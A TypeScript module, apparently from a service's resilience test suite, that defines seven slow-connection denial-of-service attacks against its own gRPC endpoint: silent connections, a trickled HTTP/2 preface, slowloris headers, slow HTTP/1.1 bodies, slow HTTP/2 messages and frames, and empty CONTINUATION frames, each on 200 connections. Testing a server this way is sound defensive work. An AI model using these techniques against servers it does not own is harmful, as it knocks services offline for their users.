import { setTimeout as sleep } from 'node:timers/promises';
import { systemClock } from '../../../../src/domain/clock.ts';
import { type Attack, KINDS, type Target } from '../attack.ts';
import { FLAG, frame, grpcHead, TYPE } from '../frames.ts';
import { type Line, openLine } from '../line.ts';
import { ended, type Tally } from '../tally.ts';

const CONNECTIONS = 200;
const EVERY_MS = 1_000;
const PATH = '/carillon.v1.EventService/Publish';

interface Slow {
  readonly http2: boolean;
  readonly opening: Buffer | string;
  readonly again: Buffer | string;
}

/** Begins a request on each connection, and goes on with it by a byte or a line a second. */
async function trickle({ port, until }: Target, tally: Tally, slow: Slow): Promise<void> {
  const lines: Line[] = await Promise.all(
    Array.from({ length: CONNECTIONS }, () => openLine({ port, tally, ...(slow.http2 && { http2: [] }) })),
  );
  for (const line of lines) {
    tally.sent++;
    await line.write(slow.opening);
  }
  while (ended(tally) < CONNECTIONS && systemClock.monotonic() < until) {
    await sleep(EVERY_MS);
    for (const line of lines) void line.write(slow.again);
  }
  for (const line of lines) line.end();
}

function slowly(name: string, what: string, lastsMs: number, kinds: Attack['kinds'], slow: Slow): Attack {
  return {
    name,
    what: `${what}, on ${CONNECTIONS} connections`,
    kinds,
    lastsMs,
    waits: true,
    run: (target, tally) => trickle(target, tally, slow),
  };
}

const POST = `POST ${PATH} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n`;
const CALL = frame(TYPE.headers, FLAG.endHeaders, 1, grpcHead(PATH));
/** The beginning of a message of 100,000 bytes. */
const MESSAGE = frame(TYPE.data, 0, 1, Buffer.from('00000186a0', 'hex'));

export const slow: readonly Attack[] = [
  slowly('silence', 'connections that say nothing', 30_000, KINDS, {
    http2: false,
    opening: '',
    again: '',
  }),
  slowly('slow-preface', 'the preface of HTTP/2, a byte a second', 30_000, KINDS, {
    http2: false,
    opening: 'P',
    again: 'R',
  }),
  slowly('slow-head', 'a head of HTTP/1.1, a line a second (slowloris)', 45_000, ['shared'], {
    http2: false,
    opening: POST,
    again: 'x: y\r\n',
  }),
  slowly('slow-body', 'a body of HTTP/1.1, a byte a second', 100_000, ['shared'], {
    http2: false,
    opening: `${POST}content-length: 1000000\r\n\r\n`,
    again: ' ',
  }),
  slowly('slow-message', 'a message over HTTP/2, a byte a second', 100_000, KINDS, {
    http2: true,
    opening: Buffer.concat([CALL, MESSAGE]),
    again: frame(TYPE.data, 0, 1, Buffer.alloc(1)),
  }),
  slowly('slow-frame', 'a frame of HTTP/2, a byte a second', 100_000, KINDS, {
    http2: true,
    opening: frame(TYPE.headers, 0, 1, grpcHead(PATH)).subarray(0, 20),
    again: Buffer.alloc(1),
  }),
  slowly('half-head', 'a head over HTTP/2, an empty CONTINUATION a second', 100_000, KINDS, {
    http2: true,
    opening: frame(TYPE.headers, 0, 1, grpcHead(PATH)),
    again: frame(TYPE.continuation, 0, 1),
  }),
];
